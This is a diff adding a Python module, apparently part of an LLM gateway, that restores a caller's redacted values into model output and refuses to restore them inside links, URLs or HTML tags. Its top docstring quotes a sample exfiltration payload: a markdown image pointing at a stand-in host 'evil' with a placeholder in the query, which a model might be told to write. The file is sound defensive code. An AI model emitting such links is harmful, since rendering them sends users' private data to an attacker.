@@ -1,0 +1,138 @@
+"""Putting the caller's own values back into a model's text, whole or as it streams.
+
+One pass, never inside what was just restored. Not into addresses, link targets,
+HTML attributes or encoded forms: a model that was told to write
+``![](https://evil/?q=[EMAIL_ADDRESS_1])`` would otherwise have the value fetched
+from there by whatever shows the answer.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from typing import TYPE_CHECKING
+
+from gateway.content.placeholders import LONGEST, TOLERANT, Name, named
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+_LOOK_BACK = 512
+_MAYBE = re.compile(r"[\[({<\\_]|[A-Z]$|[A-Z]{2}")
+_OPEN_TAIL = re.compile(
+    r"(?:(?:\\?[\[({<]){1,2} ?(?P<inside>[A-Za-z_ \-\\]{0,40}[0-9]{0,6}) ?(?:\\|\\?[\])}>])?\\?"
+    r"|(?<!\w)(?P<bare>[A-Z][A-Z_]{0,40}[0-9]{0,6})|\\)$"
+)
+_LETTERS = re.compile(r"[^A-Z]")
+_TOKEN_END = re.compile(r"[\s\"]")
+
+
+class Restorer:
+    """Restores the placeholders of one exchange."""
+
+    def __init__(self, table: Mapping[Name, str]) -> None:
+        """`table` holds what may be restored: this caller's own values."""
+        self._table = table
+        self._types = frozenset(name.type for name in table)
+        self._letters = tuple(_LETTERS.sub("", kind) for kind in self._types)
+        self.unknown = 0
+        """Placeholders of a known type whose number was never given out."""
+
+    def text(self, text: str, *, json: bool = False) -> str:
+        """A whole text restored; with `json`, values are escaped as JSON string contents."""
+        stream = self.stream(json=json)
+        restored = stream.feed(text) + stream.end()
+        self.unknown += stream.unknown
+        return restored
+
+    def stream(self, *, json: bool = False) -> StreamRestorer:
+        """A restorer for one text that arrives in pieces."""
+        return StreamRestorer(self, json=json)
+
+    @property
+    def idle(self) -> bool:
+        """Whether there is nothing to restore at all."""
+        return not self._table
+
+    def value(self, name: Name) -> str | None:
+        """What `name` stands for, or None if it must be left alone."""
+        return self._table.get(name)
+
+    def knows(self, kind: str) -> bool:
+        """Whether any placeholder of that type was given out."""
+        return kind in self._types
+
+    def may_grow(self, letters: str) -> bool:
+        """Whether a placeholder whose name begins with these letters could still follow."""
+        start = _LETTERS.sub("", letters.upper())
+        return any(kind.startswith(start) for kind in self._letters)
+
+
+class StreamRestorer:
+    """Restores one text in pieces. Holds back only a tail that may still become a placeholder."""
+
+    def __init__(self, restorer: Restorer, *, json: bool) -> None:
+        """For a text whose placeholders `restorer` knows."""
+        self._restorer = restorer
+        self._json = json
+        self._held = ""
+        self._behind = ""
+        self.unknown = 0
+
+    def feed(self, piece: str) -> str:
+        """The text that may go on, now that `piece` has come."""
+        if self._restorer.idle:
+            return piece
+        text = self._held + piece
+        if not _MAYBE.search(text):
+            self._held = ""
+            self._behind = (self._behind + text)[-_LOOK_BACK:]
+            return text
+        cut = self._cut(text)
+        self._held = text[cut:]
+        return self._restore(text[:cut])
+
+    def end(self) -> str:
+        """What was still held back, restored as it stands."""
+        text, self._held = self._held, ""
+        return self._restore(text)
+
+    def _cut(self, text: str) -> int:
+        """Where the tail begins that may still become a placeholder."""
+        window = max(0, len(text) - LONGEST)
+        tail = _OPEN_TAIL.search(text, window)
+        if tail is None:
+            return len(text)
+        letters = tail["inside"] if tail["inside"] is not None else tail["bare"]
+        return tail.start() if self._restorer.may_grow(letters or "") else len(text)
+
+    def _restore(self, text: str) -> str:
+        pieces, at = [], 0
+        for match in TOLERANT.finditer(text):
+            value = self._value(match, self._behind + text[: match.start()])
+            if value is not None:
+                pieces += [text[at : match.start()], value]
+                at = match.end()
+        self._behind = (self._behind + text)[-_LOOK_BACK:]
+        return "".join([*pieces, text[at:]]) if pieces else text
+
+    def _value(self, match: re.Match[str], behind: str) -> str | None:
+        name = named(match)
+        value = self._restorer.value(name)
+        if value is None:
+            self.unknown += self._restorer.knows(name.type)
+            return None
+        if _in_address(behind[-_LOOK_BACK:]):
+            return None
+        return json.dumps(value, ensure_ascii=False)[1:-1] if self._json else value
+
+
+def _in_address(behind: str) -> bool:
+    """Whether what follows `behind` would be part of an address, link target or HTML tag."""
+    token = _TOKEN_END.split(behind)[-1]
+    if "//" in token or "](" in token or token.lower().startswith(("www.", "mailto:")):
+        return True
+    if len(token) >= _LOOK_BACK:
+        return True  # too long to see where it began; keep the placeholder
+    tag = behind.rfind("<")
+    return tag >= 0 and ">" not in behind[tag:] and behind[tag + 1 : tag + 2].isalpha()
